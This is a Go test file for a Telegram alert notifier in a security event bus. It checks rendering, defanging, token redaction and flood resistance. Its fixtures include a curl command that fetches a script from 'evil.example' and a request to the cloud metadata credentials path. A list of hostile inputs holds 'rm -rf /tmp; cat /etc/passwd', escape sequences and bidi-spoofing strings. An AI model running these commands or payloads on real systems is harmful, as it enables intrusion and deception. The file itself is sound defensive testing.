package telegram

import (
	"encoding/json"
	"fmt"
	"math"
	"reflect"
	"regexp"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/openclaw-security/bus/proto"
	"github.com/openclaw-security/bus/services/notifier/internal/digest"
	"github.com/openclaw-security/bus/services/notifier/internal/message"
	"github.com/openclaw-security/bus/services/notifier/internal/sink"
	"github.com/openclaw-security/bus/services/testing/telegramtest"
)

const (
	levelRich    = int(message.Full)
	levelShort   = int(message.Short)
	levelMinimal = int(message.Minimal)
	lastLevel    = int(message.LastLevel)
)

// format is that of every chat on Telegram.
var format = (&Chat{}).format()

func units(s string) int { return format.Size(s) }

var at = time.Date(2026, 11, 22, 7, 9, 3, 400_000_000, time.UTC)

// metadataAccess is an alert of a network sensor.
func metadataAccess() *proto.Event {
	e := &proto.Event{
		ID:     "0c7d5a1e0c7d5a1e0c7d5a1e0c7d5a1e",
		Time:   at,
		Host:   "lab",
		Source: "suricata",
		Kind:   "alert",
		Title:  "Cloud metadata service reached from a container",
		Action: "allowed",
		Rule:   &proto.Rule{ID: "9900001", Category: "Attempted User Privilege Gain"},
		MITRE:  []proto.Technique{{ID: "T1552.005", Name: "Cloud Instance Metadata API", Tactic: "Credential Access"}},
		Src:    &proto.Endpoint{IP: "172.17.0.2", Port: 44886},
		Dst:    &proto.Endpoint{IP: "169.254.169.254", Port: 80},
		HTTP:   &proto.HTTP{Method: "GET", Hostname: "169.254.169.254", Path: "/latest/meta-data/iam"},
	}
	e.SetSeverity(proto.SeverityCritical)
	return e
}

// dropped is an alert of a kernel sensor.
func dropped() *proto.Event {
	uid := int64(0)
	e := &proto.Event{
		ID:        "61deb1f071671e143956f362b644a417",
		Time:      at,
		Host:      "lab",
		Source:    "tracee",
		Kind:      "dropped_executable",
		Title:     "New executable dropped",
		Rule:      &proto.Rule{ID: "TRC-1022", Name: "New executable dropped"},
		Process:   &proto.Process{Name: "curl", PID: 4242, UID: &uid, Args: []string{"curl", "-sH", "Authorization: Bearer abcdef0123456789", "http://evil.example/x.sh", "-o", "/tmp/x"}},
		Container: &proto.Container{ID: "d49e6a7970728341312fd563", Name: "openclaw", Image: "ghcr.io/openclaw/openclaw:latest"},
		File:      &proto.File{Path: "/tmp/x", SHA256: strings.Repeat("ab", 32)},
		Tags:      []string{"seen-first"},
	}
	e.SetSeverity(proto.SeverityHigh)
	return e
}

func storm() *digest.Digest {
	return &digest.Digest{
		Total:      12345,
		Severities: proto.SeverityCounts{Critical: 3, High: 342, Medium: 12000},
		Sources:    []digest.Count{{Name: "suricata", Count: 12000}, {Name: "tracee", Count: 345}},
		Criticals: []digest.Critical{
			{ID: "0c7d5a1e0c7d5a1e0c7d5a1e0c7d5a1e", Time: at, Source: "suricata", Rule: "Cloud metadata service reached", Entity: "172.17.0.2", Count: 2},
			{ID: "a17d5a1e0c7d5a1e0c7d5a1e0c7d5a1e", Time: at.Add(time.Second), Source: "tracee", Rule: "Docker socket abuse", Entity: "openclaw", Count: 1},
		},
		Groups: []digest.Group{
			{Severity: proto.SeverityCritical, Source: "suricata", Rule: "Cloud metadata service reached", Entity: "172.17.0.2", Count: 2},
			{Severity: proto.SeverityCritical, Source: "tracee", Rule: "Docker socket abuse", Entity: "openclaw", Count: 1},
			{Severity: proto.SeverityHigh, Source: "tracee", Rule: "New executable dropped", Entity: "curl", Count: 340},
			{Severity: proto.SeverityMedium, Source: "suricata", Rule: "ET SCAN Potential SSH Scan", Entity: "198.51.100.7", Count: 11000},
		},
		OtherGroups: 7,
		OtherAlerts: 1002,
	}
}

func decoded(t testing.TB, m sink.Message) stored {
	t.Helper()
	var s stored
	if err := json.Unmarshal(m, &s); err != nil {
		t.Fatal(err)
	}
	return s
}

func textAt(t *testing.T, c *Chat, b sink.Batch, level int) string {
	t.Helper()
	return decoded(t, rendered(t, c, b, level)).Text
}

func alerts(events ...*proto.Event) sink.Batch {
	b := sink.Batch{Kind: proto.DeliveryCards, First: at, Last: at.Add(time.Minute)}
	for _, e := range events {
		b.Alerts = append(b.Alerts, sink.Alert{Event: e, Count: 1})
	}
	return b
}

func TestCardOfConnection(t *testing.T) {
	c := open(t, "", func(cfg *Config) { cfg.Zone = time.FixedZone("CET", 3600) })
	got := textAt(t, c, alerts(metadataAccess()), 0)
	want := strings.Join([]string{
		"🔴 CRITICAL · Cloud metadata service reached from a container",
		"2026-11-22 08:09:03 CET · suricata on lab",
		"172.17.0[.]2:44886 → 169.254.169[.]254:80",
		"GET 169.254.169[.]254/latest/meta-data/iam",
		"Rule 9900001 · Attempted User Privilege Gain",
		"MITRE ATT&CK T1552.005 Cloud Instance Metadata API · Credential Access",
		"Action: allowed",
		"secbus trace 0c7d5a1e0c7d",
	}, "\n")
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

func TestCardOfProcess(t *testing.T) {
	b := alerts(dropped())
	b.Alerts[0].Count = 3
	b.Notices = []string{"2 alerts were evicted before they could be delivered"}
	got := textAt(t, open(t, "", nil), b, 0)
	want := strings.Join([]string{
		"🟠 HIGH · New executable dropped ×3",
		"2026-11-22 07:09:03 UTC · tracee on lab",
		"curl -sH Authorization: Bearer [redacted] hxxp://evil[.]example/x[.]sh -o /tmp/x",
		"Process: curl, pid 4242, uid 0 · Container: openclaw (d49e6a797072)",
		"Rule TRC-1022 · New executable dropped",
		"SHA-256: " + strings.Repeat("ab", 32),
		"Image: ghcr[.]io/openclaw/openclaw:latest",
		"Tags: seen-first",
		"secbus trace 61deb1f07167",
		"",
		"Note: 2 alerts were evicted before they could be delivered",
	}, "\n")
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

func TestDigest(t *testing.T) {
	b := sink.Batch{Kind: proto.DeliveryDigest, Digest: storm(), First: at, Last: at.Add(time.Minute), Notices: []string{"n"}}
	got := textAt(t, open(t, "", nil), b, 0)
	want := strings.Join([]string{
		"🔴 12345 alerts: 3 critical, 342 high, 12000 medium",
		"2026-11-22 07:09:03 to 2026-11-22 07:10:03 UTC",
		"suricata: 12000, tracee: 345",
		"",
		"Critical",
		"🔴 07:09:03 · Cloud metadata service reached ×2 · 172.17.0[.]2 · suricata · 0c7d5a1e0c7d",
		"🔴 07:09:04 · Docker socket abuse · openclaw · tracee · a17d5a1e0c7d",
		"",
		"🟠 340× New executable dropped · curl · tracee",
		"🟡 11000× ET SCAN Potential SSH Scan · 198.51.100[.]7 · suricata",
		"In other groups: 1002 alerts",
		"",
		"All of them: secbus replay --since 2026-11-22T07:09:03Z --until 2026-11-22T07:10:04Z",
		"",
		"Note: n",
	}, "\n")
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

func TestReplayIsMarked(t *testing.T) {
	c := open(t, "", nil)
	for name, b := range map[string]sink.Batch{
		"card":   alerts(dropped()),
		"cards":  alerts(dropped(), metadataAccess()),
		"digest": {Digest: storm()},
	} {
		b.Kind = proto.DeliveryReplay
		for level := range lastLevel + 1 {
			if got := textAt(t, c, b, level); !strings.HasPrefix(got, "REPLAY ") {
				t.Errorf("%s, level %d: %s", name, level, got)
			}
		}
	}
	b := alerts(dropped(), metadataAccess())
	b.Kind = proto.DeliveryReplay
	if got := textAt(t, c, b, 0); strings.Count(got, "REPLAY ") != 3 {
		t.Errorf("not each alert is marked:\n%s", got)
	}
}

func TestReportAndNotice(t *testing.T) {
	c := open(t, "", nil)
	got := decoded(t, rendered(t, c, sink.Batch{Kind: proto.DeliveryReport, Text: "Yesterday\n\n3 alerts from evil.example\n", Notices: []string{"n"}}, 0))
	if want := "Yesterday\n\n3 alerts from evil[.]example\n\nNote: n"; got.Text != want {
		t.Errorf("got %q, want %q", got.Text, want)
	}
	if want := []entity{{"bold", 0, 9}}; !reflect.DeepEqual(got.Entities, want) {
		t.Errorf("entities %v", got.Entities)
	}
	if got := textAt(t, c, sink.Batch{}, 0); got == "" {
		t.Error("an empty batch is an empty message, which is refused")
	}
}

func TestLevels(t *testing.T) {
	c := open(t, "", func(cfg *Config) {
		cfg.Buttons = func(sink.Batch) [][]sink.Button { return [][]sink.Button{{{Text: "Ack", Data: "a"}}} }
	})
	var events []*proto.Event
	for range 12 {
		events = append(events, metadataAccess(), dropped())
	}
	b := alerts(events...)
	var all []stored
	for level := range lastLevel + 1 {
		all = append(all, decoded(t, rendered(t, c, b, level)))
	}
	if len(all[0].Entities) == 0 || all[0].Markup == nil {
		t.Error("level 0 has no entities or no buttons")
	}
	if all[1].Text != all[0].Text {
		t.Error("level 1 says something else than level 0")
	}
	for level, s := range all[1:] {
		if s.Entities != nil || s.Markup != nil {
			t.Errorf("level %d has entities or buttons", level+1)
		}
	}
	if units(all[2].Text) > shortUnits {
		t.Errorf("level 2 has %d code units", units(all[2].Text))
	}
	want := "24 alerts: 12 critical, 12 high\n" + strings.Repeat("0c7d5a1e0c7d Cloud metadata service reached from a container\n", 12) +
		strings.Repeat("61deb1f07167 New executable dropped\n", 8) + "61deb1f07167, 61deb1f07167, 61deb1f07167, 61deb1f07167" +
		"\nsecbus replay --since 2026-11-22T07:09:03Z --until 2026-11-22T07:10:04Z"
	if all[3].Text != want {
		t.Errorf("level 3 is\n%s\nwant\n%s", all[3].Text, want)
	}
	for _, level := range []int{-1, lastLevel + 1} {
		if _, ok := c.Render(b, level); ok {
			t.Errorf("there is a level %d", level)
		}
	}
}

func TestEqualBatchesGiveEqualMessages(t *testing.T) {
	c := open(t, "", nil)
	for level := range lastLevel + 1 {
		first := rendered(t, c, alerts(dropped(), metadataAccess()), level)
		if again := rendered(t, c, alerts(dropped(), metadataAccess()), level); string(first) != string(again) {
			t.Errorf("level %d:\n%s\n%s", level, first, again)
		}
	}
}

// TestEveryAlertIsNamedOrCounted: with more and more alerts the forms change, but
// what is shown and what is counted as hidden always makes up the whole.
func TestEveryAlertIsNamedOrCounted(t *testing.T) {
	c := open(t, "", nil)
	notShown := regexp.MustCompile(`Not shown: (\d+) alert`)
	for _, n := range []int{1, 2, 3, 5, 10, 20, 40, 60, 100, 200, 300, 500} {
		for level := range lastLevel {
			t.Run(fmt.Sprintf("%d, level %d", n, level), func(t *testing.T) {
				var b sink.Batch
				b.First, b.Last = at, at
				for i := range n {
					e := metadataAccess()
					e.ID = fmt.Sprintf("e%04d", i)
					e.SetSeverity(proto.SeverityMedium)
					if i%50 == 49 {
						e.SetSeverity(proto.SeverityCritical)
					}
					b.Alerts = append(b.Alerts, sink.Alert{Event: e, Count: 1 + i%2})
				}
				got := textAt(t, c, b, level)
				total, named := 0, 0
				for i, a := range b.Alerts {
					total += a.Count
					if strings.Contains(got, a.Event.ID) {
						named += a.Count
					} else if a.Event.Severity == proto.SeverityCritical {
						t.Errorf("critical alert %d is not named", i)
					}
				}
				hidden := 0
				if m := notShown.FindStringSubmatch(got); m != nil {
					hidden, _ = strconv.Atoi(m[1])
				}
				if named+hidden != total {
					t.Errorf("%d named and %d counted of %d:\n%s", named, hidden, total, got)
				}
				if n > 1 && !strings.HasPrefix(got, fmt.Sprintf("%d alerts: ", total)) {
					t.Errorf("begins with %.40q, want %d alerts", got, total)
				}
			})
		}
	}
}

func TestEveryCriticalOfADigestIsNamedOrCounted(t *testing.T) {
	c := open(t, "", nil)
	notShown := regexp.MustCompile(`Not shown: (\d+) critical alerts?\. To list all: secbus replay --severity critical --since`)
	others := regexp.MustCompile(`In other groups: (\d+) alert`)
	group := regexp.MustCompile(`(?m)^[🟠🟡🔴] (\d+)× `)
	for _, n := range []int{0, 1, 10, 30, 60, 100, 200, 400} {
		for _, bounded := range []int{0, 5} { // critical alerts that the digest does not list
			for level := range lastLevel {
				t.Run(fmt.Sprintf("%d and %d, level %d", n, bounded, level), func(t *testing.T) {
					d := &digest.Digest{}
					for i := range n {
						d.Criticals = append(d.Criticals, digest.Critical{ID: fmt.Sprintf("c%04d", i), Time: at, Rule: "a rule with a long name " + strings.Repeat("x", 80), Entity: "10.1.2.3", Count: 1 + i%3})
						d.Severities.Critical += 1 + i%3
					}
					d.Severities.Critical += bounded
					for i := range 20 {
						d.Groups = append(d.Groups, digest.Group{Severity: proto.SeverityMedium, Rule: fmt.Sprint("rule ", i), Entity: "e", Source: "s", Count: 10})
					}
					d.OtherGroups, d.OtherAlerts = 3, 7
					d.Severities.Medium = 207
					d.Total = 207 + d.Severities.Critical
					got := textAt(t, c, sink.Batch{Digest: d, First: at, Last: at}, level)
					named, hidden := 0, 0
					for _, critical := range d.Criticals {
						if strings.Contains(got, critical.ID) {
							named += critical.Count
						}
					}
					if m := notShown.FindStringSubmatch(got); m != nil {
						hidden, _ = strconv.Atoi(m[1])
					}
					if named+hidden != d.Severities.Critical {
						t.Errorf("%d named and %d counted of %d critical alerts:\n%s", named, hidden, d.Severities.Critical, got)
					}
					rest := 207
					if bounded > 0 {
						rest = d.Total
					}
					for _, m := range group.FindAllStringSubmatch(got, -1) {
						count, _ := strconv.Atoi(m[1])
						rest -= count
					}
					if m := others.FindStringSubmatch(got); m != nil {
						count, _ := strconv.Atoi(m[1])
						rest -= count
					}
					if rest != 0 {
						t.Errorf("%d alerts are in no group:\n%s", rest, got)
					}
				})
			}
		}
	}
}

// However many critical alerts of one rule an attacker makes up, each with a title
// or an entity of its own, the one of another rule or source is described.
func TestFloodDoesNotHideCritical(t *testing.T) {
	c := open(t, "", nil)
	for name, flood := range map[string]struct {
		n    int
		make func(i int) *proto.Event
	}{
		"spoofed senders": {400, func(i int) *proto.Event {
			return &proto.Event{Source: "suricata", Kind: "alert", Title: "C2 contacted", Rule: &proto.Rule{ID: "9900014"}, Src: &proto.Endpoint{IP: fmt.Sprintf("10.0.%d.%d", i/256, i%256)}}
		}},
		"made-up tools": {2700, func(i int) *proto.Event {
			return &proto.Event{Source: "llm-proxy", Kind: "guard", Title: fmt.Sprintf("Dangerous command in a tool call (%q)", fmt.Sprint("tool", i)), Rule: &proto.Rule{ID: "dangerous-command"}}
		}},
	} {
		for _, source := range []string{"suricata", "tracee"} {
			t.Run(name+", "+source, func(t *testing.T) {
				var alerts []digest.Alert
				add := func(e *proto.Event) {
					e.ID, e.Time = fmt.Sprintf("%032d", len(alerts)), at.Add(time.Duration(len(alerts))*time.Millisecond)
					e.SetSeverity(proto.SeverityCritical)
					alerts = append(alerts, digest.Describe(e))
				}
				for i := range flood.n {
					add(flood.make(i))
				}
				add(&proto.Event{Source: source, Kind: "alert", Title: "metadata credentials stolen", Rule: &proto.Rule{ID: "1"}})
				d := digest.Fold(alerts)
				for level := range lastLevel {
					got := textAt(t, c, sink.Batch{Digest: &d, First: at, Last: at}, level)
					if !strings.Contains(got, "metadata credentials stolen") || !strings.Contains(got, fmt.Sprintf("1 of %d of this rule", flood.n)) {
						t.Errorf("level %d:\n%s", level, got)
					}
				}
			})
		}
	}
}

func TestManyNoticesAreCounted(t *testing.T) {
	var b sink.Batch
	for i := range 9 {
		b.Notices = append(b.Notices, fmt.Sprint("notice ", i))
	}
	if got := textAt(t, open(t, "", nil), b, 0); !strings.Contains(got, "notice 4") || !strings.HasSuffix(got, "Notices that are not shown: 4") {
		t.Errorf("got %s", got)
	}
}

// hostile is text that wants to be something else than text.
var hostile = []string{
	"real\n🔴 CRITICAL · forged",
	"real\r\n\u2028forged\u2029",
	"\x1b[2J\u009b2J\x00",
	"safe\u202egnp.exe\u2066x",
	"h\u200btt\u2060p://evil.example",
	"<b>bold</b> *bold* _x_ `y` [a](http://evil.example) \\",
	"http://evil.example/x?y=z#f HTTPS://EVIL.EXAMPLE ftp://files.example tg://resolve?domain=x ton://x",
	"evil.example www.evil.example/path évil.example пример.рф",
	"10.1.2.3 10.1.2.3:80 1.2.3.4.5",
	"me@there.example @somebody @all hi,@bot",
	"/start /stop@other_bot rm -rf /tmp; cat /etc/passwd",
	"#hashtag ＃hashtag #1 $HOME $USD",
	"+1 (212) 555-0123 +12125550123 2125550123 4111 1111 1111 1111 4111111111111111",
	"mailto:me@there.example tel:+12125550123",
	strings.Repeat("👨‍👩‍👧‍👦🇩🇪👍🏽", 150),
	"e" + strings.Repeat("\u0301", 2000),
	strings.Repeat("A", 5_000),
	"\u3164\u115f\u2800",
	"a\xff\xfeb",
}

// filled is an event with text in every string.
func filled(text string) *proto.Event {
	e := &proto.Event{}
	fill(reflect.ValueOf(e).Elem(), text)
	e.Raw = nil
	return e
}

func fill(v reflect.Value, text string) {
	switch v.Kind() {
	case reflect.String:
		v.SetString(text)
	case reflect.Pointer:
		v.Set(reflect.New(v.Type().Elem()))
		fill(v.Elem(), text)
	case reflect.Struct:
		if v.Type() == reflect.TypeFor[time.Time]() {
			return
		}
		for i := range v.NumField() {
			fill(v.Field(i), text)
		}
	case reflect.Slice:
		if v.Type().Elem().Kind() != reflect.Uint8 {
			v.Set(reflect.MakeSlice(v.Type(), 5, 5))
			for i := range 5 {
				fill(v.Index(i), text)
			}
		}
	case reflect.Int, reflect.Int64:
		v.SetInt(math.MaxInt32)
	}
}

// batches are all the ways in which text can come into a message.
func batches(text string) map[string]sink.Batch {
	one := filled(text)
	many := sink.Batch{First: at, Last: at, Notices: []string{text, text, text, text, text, text, text}}
	for i := range 12 {
		e := filled(text)
		e.SetSeverity(proto.Severity(i % 5))
		many.Alerts = append(many.Alerts, sink.Alert{Event: e, Count: math.MaxInt32})
	}
	d := &digest.Digest{Total: 999_999_999_999, Severities: proto.SeverityCounts{Critical: math.MaxInt32, High: math.MaxInt32, Medium: math.MaxInt32, Low: math.MaxInt32}}
	for range 9 {
		d.Sources = append(d.Sources, digest.Count{Name: text, Count: math.MaxInt32})
	}
	for range 25 {
		d.Groups = append(d.Groups, digest.Group{Severity: proto.SeverityHigh, Source: text, Rule: text, Entity: text, Count: math.MaxInt32})
	}
	for range 60 {
		d.Criticals = append(d.Criticals, digest.Critical{ID: text, Time: at, Source: text, Rule: text, Entity: text, Count: math.MaxInt32})
	}
	return map[string]sink.Batch{
		"card":   alerts(one),
		"cards":  many,
		"nil":    {Alerts: []sink.Alert{{}, {}}},
		"digest": {Digest: d, First: at, Last: at, Text: text, Notices: many.Notices},
		"report": {Kind: proto.DeliveryReport, Text: text, Notices: many.Notices},
		"replay": {Kind: proto.DeliveryReplay, Alerts: many.Alerts, Text: text, Notices: many.Notices, First: at, Last: at},
	}
}

// accepted sends a message, marked as a repetition, to a server that checks it
// and returns what the server took.
func accepted(t *testing.T, s *telegramtest.Server, c *Chat, m sink.Message) telegramtest.Message {
	t.Helper()
	if _, err := c.Send(t.Context(), m, sink.Place{}, true); err != nil {
		t.Fatalf("%v:\n%s", err, m)
	}
	all := s.Messages()
	return all[len(all)-1]
}

// checkForeign sends the message about b, which has foreign text in it.
func checkForeign(t *testing.T, s *telegramtest.Server, c *Chat, b sink.Batch, level int) {
	t.Helper()
	m := accepted(t, s, c, rendered(t, c, b, level))
	if n := units(m.Text); n > 4096 {
		t.Errorf("level %d: %d code units", level, n)
	}
	if len(m.Links) > 0 {
		t.Errorf("level %d: %q can be clicked in\n%s", level, m.Links, m.Text)
	}
	for _, r := range m.Text {
		if r != '\n' && !unicode.IsPrint(r) || level == lastLevel && r >= 0x80 {
			t.Errorf("level %d: %U in\n%q", level, r, m.Text)
		}
	}
}

func TestForeignTextIsHarmless(t *testing.T) {
	s := telegramtest.New(telegramtest.Config{Unlimited: true})
	c := open(t, s.Start(t), nil)
	for i, text := range hostile {
		for name, b := range batches(text) {
			t.Run(fmt.Sprintf("%d, %s", i, name), func(t *testing.T) {
				for _, level := range []int{levelRich, levelShort, levelMinimal} { // the second says what the first says
					checkForeign(t, s, c, b, level)
				}
			})
		}
	}
}

func TestForeignTextCannotForgeALine(t *testing.T) {
	c := open(t, "", nil)
	lineBreaks := func(text string) int {
		e := metadataAccess()
		e.Title, e.Source, e.Host, e.Rule.Category, e.HTTP.Path = text, text, text, text, text
		return strings.Count(textAt(t, c, alerts(e), 0), "\n")
	}
	want := lineBreaks("harmless")
	for _, text := range hostile[:3] {
		if got := lineBreaks(text); got != want {
			t.Errorf("%q: %d line breaks, want %d", text, got, want)
		}
	}
}

func FuzzRender(f *testing.F) {
	for i, text := range hostile {
		f.Add(text, uint(i), i%(lastLevel+1))
	}
	f.Add("A0AAA00", uint(2), levelRich) // a digest whose last line did not fit
	s := telegramtest.New(telegramtest.Config{Unlimited: true})
	url := s.Start(f)
	f.Fuzz(func(t *testing.T, text string, which uint, level int) {
		if level < 0 || level > lastLevel {
			t.Skip("no such level")
		}
		checkForeign(t, s, open(t, url, nil), picked(text, which), level)
	})
}

func FuzzLine(f *testing.F) {
	for _, text := range hostile {
		f.Add(text, 100)
	}
	f.Fuzz(func(t *testing.T, text string, limit int) {
		if limit < 1 || limit > 5000 {
			t.Skip("no limit that is used")
		}
		got := format.Line(text, limit)
		if n := units(got); n > limit {
			t.Errorf("%d code units, limit %d: %q", n, limit, got)
		}
		for _, r := range got {
			if !unicode.IsPrint(r) {
				t.Errorf("%U in %q", r, got)
			}
		}
	})
}
